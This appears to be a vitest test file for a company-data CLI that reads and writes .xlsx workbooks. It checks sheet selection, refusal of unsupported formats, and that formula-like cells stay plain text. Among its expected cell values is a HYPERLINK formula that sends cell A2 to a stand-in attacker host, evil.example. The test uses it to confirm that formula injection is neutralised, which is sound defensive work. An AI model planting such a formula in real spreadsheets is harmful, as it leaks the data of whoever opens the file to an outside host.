// Workbooks through a batch, in-process against a loopback sandbox: .xlsx files LibreOffice made
// (test/fixtures/workbooks/README.md) read as LibreOffice's own CSV export of the same sheet,
// spreadsheet formats the tool does not read refused by their signature, and --output x.xlsx read
// back with the library: text cells keep leading zeros and formula-like text, numbers are numbers.
import { copyFileSync, existsSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import JSZip from 'jszip';
import { describe, expect, it } from 'vitest';
import type { SandboxHandle } from '../../src/sandbox/index.js';
import { runPiped } from '../helpers/in-process.js';
import { sandboxAndDirForTests } from '../helpers/sandbox.js';

const FIXTURES = fileURLToPath(new URL('../fixtures/workbooks/', import.meta.url));
const fixture = (name: string) => join(FIXTURES, name);

let sandbox: SandboxHandle;
let dir: string;
sandboxAndDirForTests('cd-enrich-workbooks-', { companies: 200 }, (s, d) => {
  sandbox = s;
  dir = d;
});

function enrich(args: string[], global: string[] = []) {
  return runPiped(['--base-url', sandbox.url, ...global, 'enrich', ...args], {
    env: {
      COMPANY_DATA_API_KEY: sandbox.keys.full,
      COMPANY_DATA_STORE: join(dir, 'store.db'),
      XDG_CONFIG_HOME: join(dir, 'config'),
      XDG_CACHE_HOME: join(dir, 'cache'),
    },
  });
}

const file = (name: string) => join(dir, name);
const readCsv = (path: string, delimiter = ','): string[][] => parse(readFileSync(path), { delimiter });
const domainRequests = () => sandbox.requests().filter((r) => r.path.startsWith('/api/domains/')).length;

/** The problem line a piped run prints for an input or usage mistake. */
function problemLine(code: string, title: string, detail: string, hint?: string): string {
  return `${JSON.stringify({ code, status: 0, title, detail, retryable: false, ...(hint ? { hint } : {}) })}\n`;
}

describe('an .xlsx input', () => {
  it.each([
    ['the first sheet', [], 'companies.Leads.csv'],
    ['--sheet Second', ['--sheet', 'Second'], 'companies.Second.csv'],
    ['--sheet 2', ['--sheet', '2'], 'companies.Second.csv'],
  ])('%s reads as LibreOffice CSV export of that sheet: the same rows and cells', async (_, flags, csv) => {
    const out = file(`${csv}.out.csv`);
    const r = await enrich(
      ['--input', fixture('companies.xlsx'), '--output', out, ...flags],
      ['--csv-raw', '-q'],
    );
    const exported = readCsv(fixture(csv));
    const output = readCsv(out);
    const width = exported[0].length;
    expect(output.map((row) => row.slice(0, width))).toEqual(exported);
    const errorCode = output[0].indexOf('error_code');
    const codes = output.slice(1).map((row) => row[errorCode]);
    expect(r.code, r.stderr).toBe(codes.some((code) => code !== '') ? 6 : 0);
    expect(r.stderr).toBe('');
  });

  it('keeps text as typed: leading zeros, formula-like text, dates as ISO, numbers without float noise', async () => {
    const out = file('cells.csv');
    await enrich(
      ['--input', fixture('companies.xlsx'), '--output', out, '--include', 'company_name'],
      ['--csv-raw', '-q'],
    );
    const rows = readCsv(out);
    expect(rows[0].slice(0, 8)).toEqual([
      'company',
      'website',
      'zip',
      'Country',
      'Employee Range',
      'revenue',
      'first contact',
      'note',
    ]);
    expect(rows.slice(1).map((row) => [row[2], row[5], row[6], row[7]])).toEqual([
      ['02134', '1250000', '2024-03-05', '=1+2 Ltd'],
      ['00501', '0.3', '1999-12-31', '=HYPERLINK("http://evil.example/?x="&A2,"Click")'],
      ['SW1A 1AA', '-5', '', '@x'],
      ['80331', '1234.5', '', 'Zeile eins\nΚείμενο 中文'],
      ['10115', '2500000', '', 'TRUE'],
      ['', '', '', '+49 30 1234'],
      ['00000', '0.000123', '', '-minus text'],
    ]);
  });

  it('a workbook cut short is refused (exit 2), before any lookup', async () => {
    writeFileSync(file('cut.xlsx'), readFileSync(fixture('companies.xlsx')).subarray(0, 3000));
    const before = domainRequests();
    const r = await enrich(['--input', file('cut.xlsx'), '--output', file('cut.csv')]);
    expect(r.code).toBe(2);
    expect(r.stderr).toBe(
      problemLine(
        'invalid_input',
        'Cannot read the workbook',
        'the input is not a readable .xlsx workbook: the file ends before the workbook does (was it cut short?)',
        'Open it in your spreadsheet program and save it again as .xlsx, or as CSV.',
      ),
    );
    expect(domainRequests()).toBe(before);
  });

  it('a workbook whose shared strings ExcelJS did not read fails loudly rather than read as blanks', async () => {
    // Without its table of shared strings, every text cell of the sheet is an unresolved index:
    // what ExcelJS's streaming reader gives now and then (exceljs/exceljs#683).
    const zip = await JSZip.loadAsync(readFileSync(fixture('companies.xlsx')));
    zip.remove('xl/sharedStrings.xml');
    writeFileSync(file('no-strings.xlsx'), await zip.generateAsync({ type: 'nodebuffer' }));
    const before = domainRequests();
    const r = await enrich(['--input', file('no-strings.xlsx'), '--output', file('no-strings.csv')]);
    expect(r.code).toBe(2);
    // ExcelJS reads such a file in more than one wrong way; either way a problem, no blank cells.
    expect(JSON.parse(r.stderr)).toMatchObject({ code: 'invalid_input' });
    expect(existsSync(file('no-strings.csv'))).toBe(false);
    expect(domainRequests()).toBe(before);
  });

  it('names the sheets when --sheet names none of them', async () => {
    const before = domainRequests();
    const r = await enrich(['--input', fixture('companies.xlsx'), '--sheet', 'Leeds']);
    expect(r.code).toBe(2);
    expect(r.stdout).toBe('');
    expect(r.stderr).toBe(
      problemLine(
        'usage_error',
        'Usage error',
        '--sheet "Leeds" is not a sheet of the workbook; its sheets are 1 "Leads", 2 "Second"',
        'Name the sheet, or give its position (1 for the first).',
      ),
    );
    expect(domainRequests()).toBe(before);
  });

  it('refuses the CSV options for a workbook, and --sheet for a CSV', async () => {
    const r = await enrich(['--input', fixture('companies.xlsx'), '--delimiter', ';']);
    expect(r.code).toBe(2);
    expect(r.stderr).toBe(
      problemLine(
        'usage_error',
        'Usage error',
        `--delimiter applies to CSV input, and ${fixture('companies.xlsx')} is an .xlsx workbook`,
        'Leave out --delimiter; use --sheet to choose a sheet.',
      ),
    );
    const csv = await enrich(['--input', fixture('companies.Second.csv'), '--sheet', '1']);
    expect(csv.code).toBe(2);
    expect(csv.stderr).toBe(
      problemLine(
        'usage_error',
        'Usage error',
        `--sheet applies to a workbook, and ${fixture('companies.Second.csv')} is read as CSV text`,
        'Leave out --sheet for a CSV file.',
      ),
    );
  });
});

describe('a spreadsheet format the tool does not read', () => {
  it.each([
    ['companies.ods', 'an OpenDocument spreadsheet (.ods)'],
    ['companies.xls', 'a legacy Excel workbook (.xls) or another OLE2 document'],
    ['companies.fods', 'a flat OpenDocument spreadsheet (.fods)'],
  ])('%s is refused by its signature, exit 2, before any lookup', async (name, what) => {
    // Under another name too: the bytes decide, not the extension.
    const renamed = file(`${name}.csv`);
    copyFileSync(fixture(name), renamed);
    const before = domainRequests();
    for (const input of [fixture(name), renamed]) {
      const r = await enrich(['--input', input, '--output', file('never.csv')]);
      expect(r.code).toBe(2);
      expect(r.stdout).toBe('');
      expect(r.stderr).toBe(
        problemLine(
          'invalid_input',
          'Cannot read the input',
          `${input} is ${what}, which company-data does not read`,
          'Open it in your spreadsheet program and save it as CSV or as an Excel workbook (.xlsx), then pass that file to --input.',
        ),
      );
    }
    expect(domainRequests()).toBe(before);
  });
});

describe('--output x.xlsx', () => {
  it('writes a workbook: text cells as read, numbers as numbers, formula-like values as text, every row once', async () => {
    const out = file('enriched.xlsx');
    const r = await enrich(
      ['--input', fixture('companies.xlsx'), '--output', out, '--include', 'company_name,founded_year'],
      ['-q'],
    );
    expect(r.code, r.stderr).toBe(6);
    expect(r.stdout).toBe('');
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.readFile(out);
    expect(workbook.worksheets.map((sheet) => sheet.name)).toEqual(['Leads']);
    const sheet = workbook.worksheets[0];
    expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
    const values = (n: number) => (sheet.getRow(n).values as unknown[]).slice(1);
    expect(values(1)).toEqual([
      'company',
      'website',
      'zip',
      'Country',
      'Employee Range',
      'revenue',
      'first contact',
      'note',
      'found',
      'company_name',
      'founded_year',
      'credits_charged',
      'bought_at',
      'error_code',
      'error_detail',
    ]);
    expect(sheet.rowCount).toBe(8);
    // Every input row once, in order, its domain in column B as read.
    expect([2, 3, 4, 5, 6, 7, 8].map((n) => sheet.getCell(n, 2).value ?? '')).toEqual(
      readCsv(fixture('companies.Leads.csv'))
        .slice(1)
        .map((row) => row[1]),
    );
    const acme = sheet.getRow(2);
    expect(acme.getCell(3).value).toBe('02134');
    expect(acme.getCell(3).type).toBe(ExcelJS.ValueType.String);
    expect(acme.getCell(8).value).toBe('=1+2 Ltd');
    expect(acme.getCell(8).type).toBe(ExcelJS.ValueType.String);
    expect(acme.getCell(8).formula).toBeUndefined();
    expect(sheet.getCell(3, 8).value).toBe('=HYPERLINK("http://evil.example/?x="&A2,"Click")');
    expect(sheet.getCell(4, 8).value).toBe('@x');
    expect(sheet.getCell(7, 8).value).toBe('+49 30 1234');
    // Result fields keep their types: numbers as numbers, the rest as text.
    expect(acme.getCell(11).value).toBe(2009);
    expect(acme.getCell(12).value).toBe(1);
    expect(acme.getCell(9).value).toBe('true');
    expect(sheet.getCell(7, 14).value).toBe('invalid_domain');
    // The cells of a formula of the input come back as the text they showed.
    expect(sheet.getCell(3, 6).value).toBe('0.3');
    for (let n = 1; n <= sheet.rowCount; n++)
      sheet
        .getRow(n)
        .eachCell((cell) => expect(cell.type, `${cell.address}`).not.toBe(ExcelJS.ValueType.Formula));
  });
});

describe('--merge into a workbook', () => {
  it('writes into the matching columns, a returned number as a number cell, a missing value erasing nothing', async () => {
    const out = file('merged.xlsx');
    const r = await enrich(
      [
        '--input',
        fixture('companies.xlsx'),
        '--output',
        out,
        '--include',
        'country,employee_range,founded_year',
        '--merge',
        'overwrite',
        '--map',
        'founded_year=revenue',
      ],
      ['-q'],
    );
    expect(r.code, r.stderr).toBe(6);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.readFile(out);
    const sheet = workbook.worksheets[0];
    const values = (n: number) => (sheet.getRow(n).values as unknown[]).slice(1, 9);
    // Every field went into a column of the input: none is appended.
    expect((sheet.getRow(1).values as unknown[]).slice(9)).toEqual([
      'found',
      'credits_charged',
      'bought_at',
      'error_code',
      'error_detail',
    ]);
    expect(values(2).slice(2, 6)).toEqual(['02134', 'US', '51-200', 2009]);
    expect(values(3).slice(2, 6)).toEqual(['00501', 'US', '1001-5000', 1989]);
    // Initech has no employee_range in the sandbox: the input's 51-200 stays.
    expect(values(4).slice(2, 6)).toEqual(['SW1A 1AA', 'GB', '51-200', 1998]);
    expect(sheet.getCell(2, 6).type).toBe(ExcelJS.ValueType.Number);
    // The row without a domain keeps its cells as read.
    expect(values(7)).toEqual([
      'No Website',
      undefined,
      undefined,
      undefined,
      undefined,
      undefined,
      undefined,
      '+49 30 1234',
    ]);
  });
});

describe('the output format follows the extension', () => {
  it('writes JSON for .json and tabs for .tsv', async () => {
    const input = fixture('companies.Second.csv');
    const json = await enrich(
      ['--input', input, '--output', file('second.json'), '--include', 'company_name'],
      ['-q'],
    );
    expect(json.code, json.stderr).toBe(0);
    expect(JSON.parse(readFileSync(file('second.json'), 'utf8'))).toEqual([
      expect.objectContaining({ domain: 'initech.co.uk', found: true, company_name: 'Initech' }),
      expect.objectContaining({ domain: 'globex.io', found: true, company_name: 'Globex Corporation' }),
    ]);
    const tsv = await enrich(
      ['--input', input, '--output', file('second.tsv'), '--include', 'company_name'],
      ['-q'],
    );
    expect(tsv.code, tsv.stderr).toBe(0);
    expect(readCsv(file('second.tsv'), '\t').map((row) => row.slice(0, 3))).toEqual([
      ['domain', 'found', 'company_name'],
      ['initech.co.uk', 'true', 'Initech'],
      ['globex.io', 'true', 'Globex Corporation'],
    ]);
  });

  it('refuses a format the extension contradicts, and spreadsheet formats it does not write', async () => {
    const input = fixture('companies.Second.csv');
    const before = domainRequests();
    const json = await enrich(['--input', input, '--output', file('x.csv')], ['-o', 'json']);
    expect(json.code).toBe(2);
    expect(json.stderr).toBe(
      problemLine(
        'usage_error',
        'Usage error',
        `--format json and --output ${file('x.csv')} disagree: the extension says csv`,
        'Leave out --format (the extension decides), or name the output .json.',
      ),
    );
    const ods = await enrich(['--input', input, '--output', file('x.ods')]);
    expect(ods.code).toBe(2);
    expect(ods.stderr).toBe(
      problemLine(
        'usage_error',
        'Usage error',
        `--output ${file('x.ods')}: company-data writes workbooks as .xlsx, not .ods`,
        'Name the output .xlsx (or .csv, .tsv, .json, .ndjson); spreadsheet programs open .xlsx.',
      ),
    );
    expect(domainRequests()).toBe(before);
  });
});
